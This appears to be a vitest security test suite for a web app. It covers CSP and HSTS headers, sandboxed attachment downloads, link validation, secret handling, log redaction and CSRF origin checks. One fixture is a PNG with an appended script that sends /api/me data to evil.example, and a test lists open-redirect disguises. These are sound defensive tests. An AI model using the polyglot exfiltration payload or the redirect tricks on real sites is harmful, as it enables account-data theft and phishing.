import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { SupportThread } from '@gp/common';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadConfig, type Config } from '../../src/config.ts';
import { startRefusals } from '../../src/platform/production-readiness.ts';
import { createMailer } from '../../src/mail/transport.ts';
import { createLogger } from '../../src/platform/logger.ts';
import { loadSecret } from '../../src/platform/secrets.ts';
import { newMember } from '../support/members.ts';
import { testServer } from '../support/platform.ts';
import { apiClient, call } from './api-client.ts';

/** A real PNG (1×1) with an HTML payload after its end: accepted by type, it must never run. */
const PNG_WITH_SCRIPT = Buffer.concat([
  Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64'),
  Buffer.from('<html><script>fetch("/api/me").then(r=>r.text()).then(t=>new Image().src="https://evil.example/?"+t)</script></html>'),
]);

/** Issue 29 items 2 (headers), 7 (secrets) and 8 (same-site links). */
describe('security headers, stored files and links', () => {
  let env: Awaited<ReturnType<typeof testServer>>;
  let api: ReturnType<typeof apiClient>;
  beforeAll(async () => {
    // The web app's page without depending on a client build (vitest runs before `npm test` builds it).
    const clientDist = fs.mkdtempSync(path.join(os.tmpdir(), 'gp-client-'));
    fs.writeFileSync(path.join(clientDist, 'index.html'), '<!doctype html><title>GPoints</title><script type="module" src="/assets/app.js"></script>');
    env = await testServer('embedded', { APM_SERVER_URL: 'https://apm.example.com:8200', CLIENT_DIST: clientDist });
    api = apiClient(env.url);
  });
  afterAll(() => env?.stop());

  it('every answer carries a CSP that runs only our scripts (APM and the service worker included), nosniff, no framing and a referrer policy', async () => {
    for (const target of ['/', '/api/site', '/api/no-such-route']) {
      const res = await fetch(`${env.url}${target}`);
      const csp = res.headers.get('content-security-policy')!;
      expect(csp, target).toContain("script-src 'self'");
      expect(csp).not.toContain('unsafe-eval');
      expect(csp).toMatch(/script-src 'self';/); // no inline script, no other origin
      expect(csp).toContain("connect-src 'self' https://apm.example.com:8200");
      expect(csp).toContain("worker-src 'self'");
      expect(csp).toContain("frame-ancestors 'none'");
      expect(csp).toContain("object-src 'none'");
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      expect(res.headers.get('x-frame-options')).toBe('DENY');
      expect(res.headers.get('referrer-policy')).toBe('strict-origin-when-cross-origin');
      // Served over plain http (no https PUBLIC_URL): no HSTS, which would pin a host without TLS.
      expect(res.headers.get('strict-transport-security')).toBeNull();
    }
  });

  it('sends HSTS when PUBLIC_URL is https', async () => {
    const https = await testServer('embedded', { PUBLIC_URL: 'https://play.example.com' });
    try {
      const res = await fetch(`${https.url}/api/site`);
      expect(res.headers.get('strict-transport-security')).toBe('max-age=63072000; includeSubDomains');
    } finally {
      await https.stop();
    }
  });

  it('a PNG with a trailing <script> is served as a sandboxed download, to its member and to staff', async () => {
    const member = await newMember(env.services, 'Uploader');
    const form = new FormData();
    form.append('body', 'Look at this');
    form.append('screenshot', new Blob([new Uint8Array(PNG_WITH_SCRIPT)], { type: 'image/png' }), 'shot.png');
    const started = await fetch(`${env.url}/api/support/threads`, { method: 'POST', headers: { Authorization: `Bearer ${member.token}` }, body: form });
    expect(started.status).toBe(201);
    const thread = (await started.json()) as SupportThread;
    await env.services.auth.ensureOperator();
    const staff = (await api.post('/api/auth/login', { json: { email: env.platform.config.OPERATOR_EMAIL, password: env.platform.config.OPERATOR_PASSWORD } })).body.token as string;
    const memberUrl = thread.messages![0]!.attachment!;
    const staffUrl = memberUrl.replace('/api/support', '/api/admin/support');
    for (const [url, token] of [[memberUrl, member.token], [staffUrl, staff]] as const) {
      const res = await fetch(`${env.url}${url}`, { headers: { Authorization: `Bearer ${token}` } });
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('image/png');
      expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="screenshot-\d+\.png"$/);
      const csp = res.headers.get('content-security-policy')!;
      expect(csp).toContain('sandbox');
      expect(csp).toContain("default-src 'none'");
      expect(csp).not.toContain('script-src');
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    }
  });

  it('a notice link must stay on this site: //evil.example and its disguises are refused', async () => {
    await env.services.auth.ensureOperator();
    const operator = (await api.post('/api/auth/login', { json: { email: env.platform.config.OPERATOR_EMAIL, password: env.platform.config.OPERATOR_PASSWORD } })).body.token as string;
    const notice = (link: string) => api.post('/api/admin/inbox/notices', { token: operator, json: { title: 'Hello', body: 'Read this', link } });
    for (const link of ['//evil.example/login', '/\\evil.example', 'https://evil.example/', '/\t/evil.example']) {
      const res = await notice(link);
      expect(res.status, link).toBe(422);
      expect(res.body.error.fields).toEqual({ link: 'invalid' });
    }
    expect((await notice('/wallet')).status).toBe(201);
  });
});

describe('secrets at rest and in messages (issue 29 item 7)', () => {
  it('production needs SMTP_URL, named among the reasons it refuses to start; with it, that reason goes', () => {
    const production = loadConfig({ NODE_ENV: 'production', JWT_SECRET: 'x'.repeat(40) });
    const smtp = (config: Config) => startRefusals(config).find((p) => p.setting === 'SMTP_URL');
    expect(smtp(production)?.reason).toMatch(/password-reset links and security notices would be written to \.eml files/);
    expect(smtp(production)?.simulated).toBe(false); // ALLOW_SIMULATED does not lift it
    expect(smtp(loadConfig({ NODE_ENV: 'production', JWT_SECRET: 'x'.repeat(40), ALLOW_SIMULATED: 'true' }))).toBeDefined();
    expect(smtp(loadConfig({ NODE_ENV: 'production', JWT_SECRET: 'x'.repeat(40), SMTP_URL: 'smtp://mail.example.com:587' }))).toBeUndefined();
    expect(smtp(loadConfig({ NODE_ENV: 'production', DEMO: 'true' }))).toBeUndefined(); // the demo mails to files
    expect(loadConfig({}).SMTP_URL).toBeUndefined();
  });

  it('a bad secret setting is named, never quoted back', () => {
    for (const [key, value] of [['JWT_SECRET', 'too-short-but-real'], ['SMTP_URL', 'http://user:hunter2@mail'], ['STRIPE_SECRET_KEY', 'pk_live_abcdef'], ['OPERATOR_PASSWORD', 'short']] as const) {
      let message = '';
      try {
        loadConfig({ [key]: value });
      } catch (error) {
        message = (error as Error).message;
      }
      expect(message, key).toContain(key);
      expect(message, key).not.toContain(value);
    }
  });

  it('the generated server secret and the mail folder are 0600 files in 0700 folders (a secret kept from before is moved, not replaced)', async () => {
    const dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'gp-secrets-'));
    try {
      fs.writeFileSync(path.join(dataDir, 'server-secret'), 'an-older-secret-that-keeps-its-sessions-valid', { mode: 0o644 });
      expect(new TextDecoder().decode(loadSecret(undefined, dataDir))).toBe('an-older-secret-that-keeps-its-sessions-valid');
      const secretFile = path.join(dataDir, 'secrets', 'server-secret');
      expect(fs.statSync(secretFile).mode & 0o777).toBe(0o600);
      expect(fs.statSync(path.dirname(secretFile)).mode & 0o777).toBe(0o700);
      expect(fs.existsSync(path.join(dataDir, 'server-secret'))).toBe(false);

      const mailer = createMailer({ SMTP_URL: undefined, MAIL_DIR: undefined, DATA_DIR: dataDir, MAIL_FROM: 'GPoints <no-reply@example.com>' }, createLogger('silent'));
      await mailer.send({ to: 'a@example.com', subject: 'Reset', text: 'https://play.example.com/auth/reset?token=live' }, 'reset-abc');
      const mail = path.join(dataDir, 'mail', 'reset-abc.eml');
      expect(fs.statSync(mail).mode & 0o777).toBe(0o600);
      expect(fs.statSync(path.dirname(mail)).mode & 0o777).toBe(0o700);
    } finally {
      fs.rmSync(dataDir, { recursive: true, force: true });
    }
  });

  it('a bearer token and a session cookie never reach the request log', async () => {
    const lines: string[] = [];
    const logger = createLogger('info', {}, { write: (line: string) => lines.push(line) } as never);
    logger.error({ req: { headers: { authorization: 'Bearer eyJ.secret.token', cookie: 'gp_session=eyJ.secret.cookie', 'x-csrf-token': 'csrf-value' } }, res: { headers: { 'set-cookie': 'gp_session=eyJ.new' } } }, 'failed');
    expect(lines.join('')).not.toMatch(/eyJ|csrf-value/);
  });
});

describe('requests from another site', () => {
  let env: Awaited<ReturnType<typeof testServer>>;
  beforeAll(async () => {
    env = await testServer('embedded');
  });
  afterAll(() => env?.stop());

  it('a state-changing request whose Origin is another site is refused before any route runs, even with a bearer token', async () => {
    const member = await newMember(env.services, 'Origin');
    const res = await call(env.url, 'POST', '/api/auth/logout', { token: member.token, headers: { origin: 'https://evil.example' } });
    expect(res.status).toBe(403);
    expect(res.body.error.code).toBe('csrf_failed');
    expect((await call(env.url, 'GET', '/api/me', { token: member.token })).status).toBe(200);
    // Our own origin, or none (scripts), goes through.
    expect((await call(env.url, 'POST', '/api/auth/logout', { token: member.token, headers: { origin: env.url } })).status).toBe(204);
  });
});
